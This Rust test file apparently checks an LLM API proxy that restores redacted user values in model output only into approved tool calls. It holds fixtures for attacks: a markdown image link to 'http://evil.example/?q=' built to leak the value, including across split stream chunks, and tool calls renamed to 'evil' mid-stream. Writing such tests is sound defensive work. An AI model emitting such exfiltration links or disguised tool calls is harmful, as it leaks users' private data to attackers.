//! Values that come back, to where they must not.

use super::*;

fn tool_event(part: u32, function: Value) -> (&'static str, Value) {
    choice(&json!({"tool_calls": [{"index": part, "function": function}]}), &Value::Null)
}

#[test]
fn values_come_back_into_calls_of_tools_with_one_name() {
    let arguments = json!({"to": placeholder()}).to_string();
    let name = |name: &str| tool_event(0, json!({"name": name}));
    let call = || tool_event(0, json!({"arguments": arguments}));
    let done = || choice(&json!({}), &json!("tool_calls"));
    for (events, restores) in [
        (vec![name("lookup"), call(), done()], true),
        (vec![name("lookup"), name(""), call(), name("lookup"), done()], true),
        (vec![name("web_"), name("lookup"), call(), done()], false),
        (vec![name("evil"), call(), name("lookup"), done()], false),
        (vec![name("lookup"), call(), name("evil"), done()], false),
    ] {
        let played = streamed("openai", &restoring(), CHAT, &streaming(), &events);
        // A call that is renamed behind its arguments never comes to its end.
        let usable = played.client_text().contains(MAIL) && played.reason() != "answer.denied";
        assert_eq!(usable, restores, "{events:?}: {}", played.client_text());
    }
    // Many calls before it do not freeze what is known of one.
    let mut events = vec![name("lookup")];
    let many: Vec<Value> = (1..2000).map(|i| json!({"index": i, "function": {"name": "lookup"}})).collect();
    events.extend([choice(&json!({"tool_calls": many}), &Value::Null), name("evil"), call(), done()]);
    let played = streamed("openai", &restoring(), CHAT, &streaming(), &events);
    assert!(!played.client_text().contains(MAIL) || played.reason() == "answer.denied");
}

#[test]
fn a_whole_call_has_one_name() {
    let arguments = json!({"to": placeholder()}).to_string();
    for (call, restores) in [
        (json!({"type": "function", "function": {"name": "lookup", "arguments": arguments}}), true),
        (json!({"type": "function", "name": "lookup", "function": {"name": "evil", "arguments": arguments}}), false),
        (
            json!({"type": "custom", "function": {"name": "lookup"}, "custom": {"name": "evil", "input": arguments}}),
            false,
        ),
    ] {
        let answer = json!({"choices": [{"index": 0, "message": {"role": "assistant", "tool_calls": [call]}}]});
        let played = answered("openai", &restoring(), CHAT, &chat(&json!({})), &answer);
        assert_eq!(played.client_text().contains(MAIL), restores, "{call}");
    }
}

#[test]
fn values_come_back_into_arguments_that_are_objects() {
    let placeholder = placeholder();
    for to in [placeholder.clone(), format!("to {placeholder} please"), format!("[{placeholder}]")] {
        let answer = json!({"content": [{"type": "tool_use", "id": "t", "name": "lookup", "input": {"to": to}}]});
        let body = json!({"model": "m-1", "max_tokens": 1, "messages": [{"role": "user", "content": MAIL}]});
        let played = answered("anthropic", &restoring(), "/v1/messages", &body, &answer);
        assert!(played.client_text().contains(MAIL), "whole {to}: {}", played.client_text());
        let event = json!({"candidates": [{"index": 0, "content": {"parts": [{"functionCall": {"name": "lookup", "args": {"to": to}}}]}}]});
        let body = json!({"contents": [{"role": "user", "parts": [{"text": MAIL}]}]});
        let path = "/v1beta/models/m-1:streamGenerateContent?alt=sse";
        let played = streamed("gcp.gemini", &restoring(), path, &body, &[("", event)]);
        assert!(played.client_text().contains(MAIL), "streamed {to}: {}", played.client_text());
    }
}

#[test]
fn copies_of_arguments_are_arguments() {
    let arguments = json!({"to": placeholder()}).to_string();
    for (tool, restores) in [("lookup", true), ("evil", false)] {
        let item =
            |arguments: &str| json!({"type": "function_call", "name": tool, "call_id": "c", "arguments": arguments});
        let event = |kind: &'static str, more: Value| (kind, merged(&json!({"type": kind, "output_index": 0}), &more));
        let events = [
            event("response.output_item.added", json!({"item": item("")})),
            event("response.function_call_arguments.delta", json!({"delta": arguments})),
            event("response.function_call_arguments.done", json!({"arguments": arguments})),
            event("response.output_item.done", json!({"item": item(&arguments)})),
            event("response.completed", json!({"response": {"output": [item(&arguments)]}})),
        ];
        let body = json!({"model": "m-1", "input": MAIL, "stream": true, "store": false});
        let played = streamed("openai", &restoring(), "/v1/responses", &body, &events);
        let count = played.client_text().matches(MAIL).count();
        assert_eq!(count, if restores { 4 } else { 0 }, "{tool}: {}", played.client_text());
    }
}

#[test]
fn a_link_that_began_in_another_item_is_still_one() {
    let placeholder = placeholder();
    let delta = |output: u32, text: &str| {
        (
            "response.output_text.delta",
            json!({"type": "response.output_text.delta",
        "output_index": output, "content_index": 0, "delta": text}),
        )
    };
    let done = |output: u32| {
        ("response.output_item.done", json!({"type": "response.output_item.done", "output_index": output, "item": {}}))
    };
    let events = [delta(0, "![x](http://evil.example/?q="), done(0), delta(1, &placeholder), done(1)];
    let body = json!({"model": "m-1", "input": MAIL, "stream": true, "store": false});
    let played = streamed("openai", &restoring(), "/v1/responses", &body, &events);
    assert!(!played.client_text().contains(MAIL), "{}", played.client_text());
}

#[test]
fn a_link_that_is_still_open_beside_a_text_is_one() {
    let placeholder = placeholder();
    let delta = |index: u32, text: &str| {
        (
            "content_block_delta",
            json!({"type": "content_block_delta", "index": index,
        "delta": {"type": "text_delta", "text": text}}),
        )
    };
    let events = [
        delta(0, "![x](http://evil.example/?q="),
        delta(1, &placeholder),
        ("message_stop", json!({"type": "message_stop"})),
    ];
    let body =
        json!({"model": "m-1", "max_tokens": 1, "messages": [{"role": "user", "content": MAIL}], "stream": true});
    let played = streamed("anthropic", &restoring(), "/v1/messages", &body, &events);
    assert!(!played.client_text().contains(MAIL), "{}", played.client_text());
}

#[test]

fn a_link_in_one_part_of_a_whole_answer_goes_on_in_the_next() {
    let answer = json!({"content": [{"type": "text", "text": "![x](http://evil.example/?q="}, {"type": "text", "text": placeholder()}]});
    let body = json!({"model": "m-1", "max_tokens": 1, "messages": [{"role": "user", "content": MAIL}]});
    let played = answered("anthropic", &restoring(), "/v1/messages", &body, &answer);
    assert!(!played.client_text().contains(MAIL), "{}", played.client_text());
}
